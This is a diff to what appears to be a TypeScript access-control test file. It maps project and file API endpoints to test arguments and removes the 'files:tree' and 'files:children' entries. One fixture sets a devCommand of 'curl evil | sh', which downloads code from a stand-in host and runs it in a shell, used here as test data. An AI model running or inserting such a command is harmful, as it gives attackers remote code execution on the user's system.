@@ -62,7 +62,6 @@ const argumentsFor: Record<string, (f: Fixture) => Args[]> = {
   "projects:remove": ({ one }) => [{ projectId: one.projectId }, { projectId: one.projectId, clientOpId: "op-1" }],
   "projects:updateSettings": ({ one }) => [{ projectId: one.projectId, settings: { devCommand: "curl evil | sh" } }],
 
-  "files:tree": ({ one }) => [{ projectId: one.projectId }],
   "files:listing": ({ one }) => [{ projectId: one.projectId }],
   "files:listingBucket": ({ one }) => [{ projectId: one.projectId, bucket: 0 }],
   "files:listingTop": ({ one }) => [{ projectId: one.projectId }],
@@ -70,11 +69,6 @@ const argumentsFor: Record<string, (f: Fixture) => Args[]> = {
     { projectId: one.projectId, items: [{ name: "evil.ts", content: "x" }] },
     { projectId: one.projectId, parentId: one.folderId, items: [{ name: "evil", type: "folder" }] },
     { projectId: own.projectId, parentId: one.folderId, items: [{ name: "evil.ts" }] },
-  ],
-  "files:children": ({ one, own }) => [
-    { projectId: one.projectId },
-    { projectId: one.projectId, parentId: one.folderId },
-    { projectId: own.projectId, parentId: one.folderId },
   ],
   "files:get": ({ one }) => [{ fileId: one.fileId }, { fileId: one.folderId }, { fileId: one.binaryFileId }],
   "files:createFile": ({ one, own }) => [
